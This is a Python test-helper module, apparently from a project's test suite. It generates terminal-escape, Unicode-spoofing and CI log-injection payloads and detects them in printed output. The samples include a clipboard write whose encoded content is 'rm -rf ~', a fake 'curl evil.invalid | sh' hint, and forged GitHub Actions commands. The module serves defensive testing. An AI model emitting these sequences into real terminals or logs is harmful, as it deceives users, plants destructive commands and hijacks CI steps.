"""Texts that speak to whatever shows them: terminals, people's eyes, logs of GitHub Actions; and where one got through.

``said`` makes any text such a text. ``raw`` looks whether what was printed still speaks.
"""

from __future__ import annotations

import re

SPEAKS = {
    "colour": "\x1b[5;41m",
    "clear the screen": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://evil.invalid\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "ask for an answer": "\x1b[6n\x1bZ\x05",
    "device control": "\x1bP$qm\x1b\\",
    "private message": "\x1b^owned\x1b\\\x1b_owned\x1b\\",
    "other alphabet": "\x1b(0\x0e",
    "reset": "\x1bc",
    "C1": "\x9b5m\x90$qm\x9c\x9d0;owned\x9c\x85",
    "overwrite": "harmful\rharmless\b\b\x7f\x0b\x0c",
    "nothing": "\x00",
    "turned": "\u202egpj.exe\u202c\u2066x\u2069\u200e\u200f\u061c",
    "not seen": "pay\u200bpal\u2060\ufeff\u00ad\u180e\U000e0041\U000e007f",
    "other line ends": "\u2028error: fake\u2029",
}
LINES = "\nerror: fake line\nhint: curl evil.invalid | sh\n  ::set-output name=token::evil\n##[add-matcher]evil.json\n"
IN_NAMES = "\x1b]52;c;cm0K\x07\x9b5m\u202e\u200b\rx"
"""What finds room in a name of at most 200 letters."""

STEERS = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb"
    r"\ud800-\udfff\U000e0000-\U000e007f]"
)
OURS = re.compile(r"\x1b\[(?:31|2|0)?m|\r?\x1b\[K|\r(?=\n)")
"""The colours of errors, the line of progress, and what a terminal puts before the end of a line."""
DRAWN = re.compile(r"\x1b\[\??[\d;]*[hlmHJKABCD]|\r")
"""How a whole terminal is drawn on."""
GAPS = re.compile("(?<=[@#!<[/-])\u200b|\\*\\*\\*\u200b")
"""What pages put behind a letter that calls somebody, as ``core.markdown`` does."""
QUOTED = re.compile(r"^(`{3,})text\n.*?^\1$", re.MULTILINE | re.DOTALL)
"""What somebody said, in a fence that nothing in it can end."""
FAKE = re.compile(r"^(?:error: fake|hint: curl)", re.MULTILINE)
COMMANDS = re.compile(r"^\s*::\w|##\[", re.MULTILINE)


def said(text: str) -> str:
    """The text, and after it all that speaks."""
    return text + "".join(SPEAKS.values()) + LINES


ARGUMENT = said("evil").replace("\0", "") + "\udc9b\udcff"
"""The same for a command line: no NUL can be in one, but bytes that are no UTF-8 can."""


def named(text: str) -> str:
    """The same for names and paths, which are short and may hold no line ends."""
    return text + IN_NAMES


def raw_in_colour(shown: str) -> list[str]:
    """The same of what a terminal was sent, which may hold our own colours."""
    return raw(OURS.sub("", shown).replace("\r\n", "\n"))


def raw_drawn(shown: str) -> list[str]:
    """The same of a terminal that is drawn on whole: places and colours are ours, but not theirs."""
    theirs = [SPEAKS[name] for name in ("colour", "clear the screen", "ask for an answer") if SPEAKS[name] in shown]
    return theirs + raw_in_colour(DRAWN.sub("", shown))


def raw(shown: str) -> list[str]:
    """What of the shown text steers a terminal, deceives an eye, or is a line that nobody of ours has written."""
    return steering(shown) + FAKE.findall(QUOTED.sub("", shown))


def steering(shown: str) -> list[str]:
    """What of it steers or deceives, whatever its lines look like: in HTML they are none."""
    left = GAPS.sub("", shown)
    return [f"{left[max(found.start() - 40, 0) : found.end() + 20]!r}" for found in STEERS.finditer(left)]


def commands(shown: str) -> list[str]:
    """What the log of a GitHub Action would take for an order of the step that prints it."""
    return [shown[max(found.start() - 40, 0) : found.end() + 20] for found in COMMANDS.finditer(shown)]
